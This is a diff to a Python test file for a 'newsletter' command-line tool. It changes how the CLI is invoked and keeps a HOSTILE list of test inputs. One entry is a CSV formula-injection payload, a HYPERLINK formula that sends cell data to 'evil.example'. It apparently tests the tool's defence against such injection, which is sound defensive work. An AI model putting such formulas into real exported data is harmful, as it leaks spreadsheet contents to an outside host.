@@ -6,10 +6,9 @@ import csv
 import io
 import os
 import subprocess
-import sys
 from pathlib import Path
 
-from .conftest import REPO
+from .conftest import NEWSLETTER
 
 HOSTILE = [
     ("=cmd@example.com", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")"),
@@ -22,8 +21,8 @@ HOSTILE = [
 
 
 def cli(root: Path, *args: str) -> subprocess.CompletedProcess:
-    env = {"PYTHONPATH": str(REPO), "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "COLUMNS": "200"}
-    return subprocess.run([sys.executable, "-m", "newsletter", *args], cwd=root, capture_output=True,
+    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "COLUMNS": "200"}
+    return subprocess.run([*NEWSLETTER, *args], cwd=root, capture_output=True,
                           text=True, timeout=120, env=env)
 
 
